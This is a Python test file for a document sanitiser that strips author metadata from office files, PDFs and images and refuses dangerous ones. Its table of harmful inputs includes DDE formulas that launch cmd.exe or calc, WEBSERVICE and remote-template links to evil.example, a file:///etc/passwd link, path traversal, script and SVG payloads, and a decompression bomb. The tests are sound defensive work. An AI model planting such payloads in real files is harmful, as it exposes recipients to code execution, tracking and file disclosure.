"""What a file says of its writer is gone, what it says to its readers is there, and what could harm is refused."""

import zipfile
from io import BytesIO

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter

from files import scanner
from files.faults import Refused
from peer_network.sharing.cleaning import kinds, pdfs
from tests.peer_network.sharing import made

FIRST, LAST = (part.encode() for part in made.NAME.split())


def cleaned(content):
    return kinds.clean(BytesIO(content), "file")


def why_refused(content, name="file"):
    with pytest.raises(Refused) as refused:
        kinds.clean(BytesIO(content), name)
    return refused.value.faults[0]


def unpacked(content):
    """Every byte of the file, also of what is packed in it."""
    if not content.startswith(b"PK"):
        return content
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return b"".join(name.encode() + archive.read(name) for name in archive.namelist())


ALL = {".docx": made.docx, ".xlsx": made.xlsx, ".odt": made.odt, ".pdf": made.pdf, ".png": made.png, ".jpg": made.jpeg}


@pytest.mark.parametrize("ending", ALL)
def test_nobodys_name_and_no_place_is_left_in_a_file(ending):
    content = ALL[ending]()
    before = unpacked(content)
    assert FIRST in before and LAST in before

    clean = cleaned(content)
    after = unpacked(clean.content)
    assert clean.ending == ending
    assert FIRST not in after and LAST not in after and made.WHERE not in after
    assert FIRST.decode() not in clean.text
    assert clean.removed


def test_kind_is_found_by_content_and_not_by_name():
    assert kinds.clean(BytesIO(made.docx()), "photo.png").ending == ".docx"
    assert "can’t be shared" in why_refused(b"hello", "rota.docx")


def test_words_of_each_kind_are_there_for_the_checks():
    assert "A rota for nights" in cleaned(made.docx()).text
    assert "01632 960123" in cleaned(made.xlsx()).text
    assert "A job advert" in cleaned(made.odt()).text


def test_cells_do_not_run_together_into_one_number():
    assert "\n" in cleaned(made.xlsx()).text.strip()


def test_workbook_opens_with_its_sums_and_its_comment_afterwards():
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(BytesIO(cleaned(made.xlsx()).content))
    sheet = book["Rota"]
    assert sheet["A3"].value == "=SUM(A1:A2)"
    assert sheet["B1"].value == "Call 01632 960123"
    assert sheet["A1"].comment.author == "Author"


def test_tracked_change_and_comment_stay_without_who_and_when():
    after = unpacked(cleaned(made.docx()).content)
    assert b'w:author="Author"' in after
    assert b"Why?" in after and b"New" in after
    assert b"2015-07-01" not in after


def test_what_led_to_a_part_that_is_gone_is_gone_too():
    with zipfile.ZipFile(BytesIO(cleaned(made.docx()).content)) as archive:
        assert not [name for name in archive.namelist() if name.startswith(("docProps", "customXml"))]
        assert b"docProps" not in archive.read("_rels/.rels") + archive.read("[Content_Types].xml")
        links = archive.read("word/_rels/document.xml.rels")
        assert b"customXml" not in links and b"image1.jpeg" in links and b"comments.xml" in links
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


OUT = (
    f'<Relationships xmlns="{made.RELS}"><Relationship Id="r" Type="{made.R}/%s" Target="%s" TargetMode="External"/>'
    "</Relationships>"
)
MACRO_TYPE = '<Types><Override PartName="/word/document.xml" ContentType="x.macroEnabled"/></Types>'
LISTENER = "<office:event-listeners><s:event-listener xmlns:s='s'/></office:event-listeners>"
HARMFUL = {
    "macros": lambda: made.docx(**{"word/vbaProject.bin": b"x"}),
    "macros by type": lambda: made.docx(**{"[Content_Types].xml": MACRO_TYPE}),
    "embedded": lambda: made.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "external picture": lambda: made.docx(
        **{"word/_rels/document.xml.rels": OUT % ("image", "https://evil.example/track.png")}
    ),
    "file link": lambda: made.docx(**{"word/_rels/document.xml.rels": OUT % ("hyperlink", "file://server/share")}),
    "template": lambda: made.docx(**{"word/_rels/settings.xml.rels": OUT % ("frame", "https://evil.example/a.dotm")}),
    "field": lambda: made.docx("<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r></w:p>"),
    "document type": lambda: made.docx(**{"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
    "unknown part": lambda: made.docx(**{"word/media/image2.emf": b"x"}),
    "not a picture": lambda: made.docx(**{"word/media/image2.png": b"<svg/>"}),
    "dde": lambda: made.xlsx("=cmd|'/c calc'!A0"),
    "webservice": lambda: made.xlsx('=WEBSERVICE("https://evil.example")'),
    "other workbook": lambda: made.xlsx("='[Other.xlsx]Sheet'!A1"),
    "odt macro": lambda: made.odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
    "odt listener": lambda: made.odt(LISTENER),
    "odt object": lambda: made.odt(**{"Object 1/content.xml": "<x/>"}),
    "odt file link": lambda: made.odt('<text:a xlink:href="file:///etc/passwd">x</text:a>'),
    "odt outside": lambda: made.odt('<text:a xlink:href="../../x">x</text:a>'),
    "pdf script": lambda: made.pdf(script="app.alert(1)"),
    "old office": lambda: b"\xd0\xcf\x11\xe0" + b"x" * 100,
    "program": lambda: b"MZ" + b"\0" * 100,
    "svg": lambda: b"<svg onload='alert(1)'/>",
    "page": lambda: b"<!doctype html><script>alert(1)</script>",
    "cut off": lambda: made.docx()[:-30],
    "cut pdf": lambda: b"%PDF-1.7\nhello",
    "empty": lambda: b"",
    "bomb": lambda: made.docx(**{"word/big.xml": b"0" * 90_000_000}),
}  # fmt: skip


@pytest.mark.parametrize("what", HARMFUL)
def test_what_could_harm_a_reader_is_refused(what):
    with pytest.raises(Refused):
        cleaned(HARMFUL[what]())


def test_pdf_with_a_password_is_refused():
    writer, written = PdfWriter(clone_from=PdfReader(BytesIO(made.pdf()))), BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(written)
    assert "password" in why_refused(written.getvalue())


def test_pdf_keeps_its_pages_and_loses_attachments():
    reader = PdfReader(BytesIO(cleaned(made.pdf()).content))
    assert len(reader.pages) == 1
    assert not reader.attachments
    assert reader.xmp_metadata is None
    assert "/Author" not in (reader.metadata or {})


def test_picture_is_turned_upright_before_the_note_on_it_goes():
    picture, written = Image.new("RGB", (40, 20)), BytesIO()
    notes = picture.getexif()
    notes[0x0112] = 6
    picture.save(written, format="JPEG", exif=notes)
    assert Image.open(BytesIO(cleaned(written.getvalue()).content)).size == (20, 40)


def test_picture_of_too_many_points_is_refused_unopened():
    written = BytesIO()
    Image.new("1", (9000, 9000)).save(written, format="PNG")
    with pytest.raises(Refused):
        cleaned(written.getvalue())


def test_jpeg_in_a_pdf_loses_its_notes_and_keeps_its_points():
    clean = pdfs.jpeg_without_notes(made.jpeg())
    assert FIRST not in clean
    assert Image.open(BytesIO(clean)).tobytes() == Image.open(BytesIO(made.jpeg())).tobytes()


def test_scanner_is_asked_before_anything_is_opened():
    scanner.register("test", lambda file: "Eicar")
    try:
        with pytest.raises(Refused):
            cleaned(made.png())
    finally:
        scanner.unregister("test")
